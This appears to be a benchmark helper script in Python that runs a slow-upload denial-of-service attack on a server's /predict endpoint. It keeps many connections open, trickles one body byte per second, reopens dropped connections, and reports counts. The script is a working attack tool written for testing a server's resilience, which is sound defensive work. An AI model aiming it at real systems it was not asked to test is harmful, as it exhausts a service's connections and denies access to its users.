#!/usr/bin/env python3
"""Slow-upload attacker for bench/slow-upload.sh (standard library only).

Keeps CONNECTIONS connections to HOST:PORT, each sending the head of a
POST /predict that announces a body of LENGTH bytes and then one body byte per
second. A connection that the server closes or answers is opened again, as a
real attacker would, so the pressure stays constant for DURATION seconds.
Prints how many connections were opened and how many answers they got.

usage: slow_clients.py HOST PORT CONNECTIONS DURATION [LENGTH]
"""
import asyncio
import sys


async def attacker(host, port, length, stop, stats):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["opened"] += 1
        head = (
            f"POST /predict HTTP/1.1\r\nHost: bench\r\n"
            f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
        )
        try:
            writer.write(head.encode())
            await writer.drain()
            for _ in range(length):
                if stop.is_set():
                    break
                writer.write(b" ")
                await writer.drain()
                try:
                    line = await asyncio.wait_for(reader.readline(), 1.0)
                except asyncio.TimeoutError:
                    continue
                if line:
                    stats["answered"] += 1
                break
        except OSError:
            pass
        finally:
            writer.close()


async def main():
    host, port = sys.argv[1], int(sys.argv[2])
    connections, duration = int(sys.argv[3]), float(sys.argv[4])
    length = int(sys.argv[5]) if len(sys.argv) > 5 else 1000
    stop = asyncio.Event()
    stats = {"opened": 0, "answered": 0}
    tasks = [
        asyncio.create_task(attacker(host, port, length, stop, stats))
        for _ in range(connections)
    ]
    await asyncio.sleep(duration)
    stop.set()
    await asyncio.wait(tasks, timeout=5)
    print(f"slow connections opened: {stats['opened']}, answered: {stats['answered']}")


asyncio.run(main())
